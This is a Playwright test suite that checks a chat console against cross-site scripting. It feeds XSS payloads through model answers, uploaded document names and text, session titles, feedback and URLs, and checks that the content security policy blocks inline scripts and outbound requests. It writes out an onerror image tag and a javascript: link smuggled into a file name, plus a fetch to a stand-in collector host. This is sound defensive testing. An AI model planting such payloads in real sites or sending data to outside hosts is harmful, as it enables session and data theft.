"""Nothing that comes in from outside runs in the console: forty payloads through every way in, and headers that would stop them."""

import json
import urllib.parse
from typing import Any

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.live.console.payloads import PAYLOADS
from tests.live.console.visitor import CHAT, KNOWLEDGE, Visitor

pytestmark = pytest.mark.live

RAN = "window.__ran === 1"


@pytest.fixture
def language() -> str:
    """What runs does not depend on the language."""
    return "en"


def watched(page: Page) -> list[str]:
    """Dialogs that a script opened; a script may also set `__ran`."""
    opened: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismissed)
    return opened


def poke(page: Page) -> None:
    """Press every link that an answer or a document holds, as a person might: none leads to a script."""
    addresses = page.locator("#content a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(addresses) <= {"http:", "https:", "mailto:"}, addresses


def test_the_list_has_forty_payloads() -> None:
    assert len(set(PAYLOADS)) == 40


def test_payloads_run_in_a_page_without_protection(visitor: Visitor) -> None:
    """The list is not empty threats: bare HTML without a policy runs many of them."""
    ran = 0
    for payload in PAYLOADS:
        visitor.page.goto("about:blank")
        visitor.page.set_content(f"<body>{payload}</body>")
        visitor.page.wait_for_timeout(25)
        ran += bool(visitor.page.evaluate(RAN))
    assert ran >= 12


def test_nothing_of_a_models_output_runs(visitor: Visitor) -> None:
    visitor.come_in()
    opened = watched(visitor.page)
    visitor.choose("model", "scripted")
    for first in range(0, len(PAYLOADS), 10):
        told = "\\n\\n".join(payload.replace("\n", "\\n") for payload in PAYLOADS[first : first + 10])
        visitor.ask(f"say: {told}")
    expect(visitor.answers.last).to_contain_text("onerror")
    visitor.page.wait_for_timeout(500)
    assert not visitor.page.evaluate(RAN)
    assert opened == []
    poke(visitor.page)
    visitor.page.reload()  # stored: the same from the session, and the payloads as questions too
    expect(visitor.answers).to_have_count(4)
    visitor.page.wait_for_timeout(500)
    assert not visitor.page.evaluate(RAN)
    assert opened == []


def test_nothing_of_a_document_or_its_name_runs(visitor: Visitor) -> None:
    api = visitor.maru.minji
    store = api.call("POST", "/v1/vector_stores", {"name": PAYLOADS[1]})["id"]
    name = "<img src=x onerror=window.__ran=1> [x](javascript:alert(1)).md"
    text = "# 규정 위협\n\n" + "\n\n".join(f"위협 {number}: {payload}" for number, payload in enumerate(PAYLOADS))
    file = api.upload(
        "/v1/files", name.replace('"', ""), text.encode(), {"purpose": "assistants", "attributes": json.dumps({"a": PAYLOADS[2]})}
    )
    api.call("POST", f"/v1/vector_stores/{store}/files", {"file_id": file["id"]})
    api.call("POST", "/v1/agents", {"name": f"threat-{store[-8:]}", "description": PAYLOADS[1], "vector_stores": [store]})
    opened = watched(visitor.page)
    visitor.come_in(f"/knowledge/{store}")
    expect(visitor.page.get_by_role("row", name="위협").or_(visitor.page.get_by_role("row", name="onerror"))).to_contain_text(
        visitor.text(KNOWLEDGE, "stage.completed"), timeout=60_000
    )
    visitor.page.get_by_role("link", name="onerror").click()
    expect(visitor.page.locator("button.chunk").first).to_contain_text("위협 0")
    poke(visitor.page)
    visitor.page.goto(f"{visitor.maru.url}/chat")
    visitor.choose("answerer", f"threat-{store[-8:]}")
    visitor.composer.fill("위협 1은 무엇인가요?")
    visitor.composer.press("Enter")
    expect(visitor.answers.last).not_to_have_attribute("data-status", "under way", timeout=30_000)
    visitor.page.wait_for_timeout(500)
    assert not visitor.page.evaluate(RAN)
    assert opened == []


def test_nothing_of_titles_and_feedback_runs(visitor: Visitor) -> None:
    api = visitor.maru.minji
    opened = watched(visitor.page)
    for payload in PAYLOADS:
        answer = api.call("POST", "/v1/agents/assistant/chat", {"message": f"say: x {payload}", "model": "scripted"})
        api.call("PATCH", f"/v1/sessions/{answer['session_id']}", {"title": payload.replace("\n", " ")})
        told = {"message_id": answer["message_id"], "rating": "dislike", "comment": payload, "correction": payload}
        api.call("POST", "/v1/feedback", told)
    visitor.come_in()
    expect(visitor.page.locator("li.session a", has_text="onerror").first).to_be_visible()
    visitor.page.get_by_role("searchbox").fill(PAYLOADS[1])
    visitor.page.locator("li.session a").first.click()
    expect(visitor.answers.first).to_be_visible()
    visitor.page.wait_for_timeout(300)
    assert not visitor.page.evaluate(RAN)
    assert opened == []


def test_addresses_reflect_nothing(visitor: Visitor) -> None:
    opened = watched(visitor.page)
    visitor.come_in()
    for payload in PAYLOADS[:8]:
        visitor.page.goto(f"{visitor.maru.url}/chat/{urllib.parse.quote(payload, safe='')}?x={urllib.parse.quote(payload)}#{payload}")
        visitor.page.wait_for_timeout(100)
        assert not visitor.page.evaluate(RAN)
    assert opened == []


def test_a_script_that_got_in_would_be_stopped(visitor: Visitor) -> None:
    """The policy by itself: scripts, styles and frames from elsewhere or in the page do not run, nothing is sent away."""
    visitor.come_in()
    attempts: dict[str, Any] = visitor.page.evaluate(
        """async () => { const tried = {};
          const script = document.createElement('script');
          try { script.textContent = 'window.__ran = 1'; document.head.append(script); tried.inline = window.__ran === 1; }
          catch { tried.inline = false; }
          try { document.body.innerHTML += '<img src=x>'; tried.html = true; } catch { tried.html = false; }
          tried.sent = await fetch('https://collector.example/').then(() => true, () => false);
          return tried; }"""
    )
    assert attempts == {"inline": False, "html": False, "sent": False}
    visitor.page.wait_for_timeout(300)
    visitor.violations.clear()  # those were ours
    visitor.foreign.clear()


def test_keys_are_in_no_address_and_no_lasting_storage(visitor: Visitor) -> None:
    addresses: list[str] = []
    visitor.page.on("request", lambda request: addresses.append(request.url))
    visitor.come_in()
    expect(visitor.composer).to_be_visible()
    key = visitor.maru.run["api_key"]
    assert not [address for address in addresses if key in address]
    assert key not in json.dumps(visitor.page.evaluate("({...localStorage})"))
    assert visitor.page.context.cookies() == []
    assert visitor.button(CHAT, "composer.send").is_visible()
